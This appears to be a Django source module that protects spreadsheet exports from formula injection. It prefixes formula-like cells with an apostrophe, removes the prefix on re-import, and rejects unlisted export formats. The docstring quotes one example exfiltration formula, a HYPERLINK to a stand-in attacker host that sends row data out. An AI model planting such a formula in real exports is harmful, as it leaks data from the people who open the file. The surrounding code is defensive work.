"""Spreadsheet exports that cannot run code: the one helper every .xlsx and .csv export passes its cells through.

A text cell starting with `=`, `+`, `-`, `@`, a tab or a line break is read as a formula by Excel, WPS and
LibreOffice (`=HYPERLINK("http://evil.example/?d="&B2&C2)` sends the row away when clicked). Such text is
written with a leading apostrophe, the usual way to mark a cell as text; numbers, and text that is a plain
number ("-3.5", "+12%"), stay as they are. `from_spreadsheet` takes the apostrophe off again when a
template comes back.
"""

import re

from django.core.exceptions import BadRequest
from django.utils.translation import gettext as _
from django_tables2.export import ExportMixin, TableExport
from tablib import Dataset

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d,]*(\.\d+)?[%％]?$")


def to_spreadsheet(value):
    """A cell value safe to write to .xlsx or .csv: text that would be a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def from_spreadsheet(text: str) -> str:
    """Text read back from a template this app wrote: the apostrophe `to_spreadsheet` added is removed."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class SafeTableExport(TableExport):
    """django-tables2's export with every cell (and header) passed through `to_spreadsheet`."""

    def table_to_dataset(self, table, exclude_columns, dataset_kwargs=None):
        unsafe = super().table_to_dataset(table, exclude_columns, dataset_kwargs)
        dataset = Dataset(title=unsafe.title)
        dataset.headers = [to_spreadsheet(str(header)) for header in unsafe.headers or []]
        for row in unsafe:
            dataset.append([to_spreadsheet(value) for value in row])
        return dataset


class SafeExportMixin(ExportMixin):
    """ExportMixin serving only the view's `export_formats`, each cell made safe; any other `?_export=` is a 400.

    django-tables2 would otherwise serve every format tablib knows (json, latex, yaml …), and fail with a 500
    on those whose libraries are not installed (ods, xls).
    """

    export_class = SafeTableExport

    def render_to_response(self, context, **kwargs):
        export_format = self.request.GET.get(self.export_trigger_param)
        if export_format is not None and export_format not in self.export_formats:
            raise BadRequest(
                _("“%(format)s” is not an export format of this page: choose one of %(formats)s.")
                % {"format": export_format[:20], "formats": ", ".join(self.export_formats)}
            )
        return super().render_to_response(context, **kwargs)
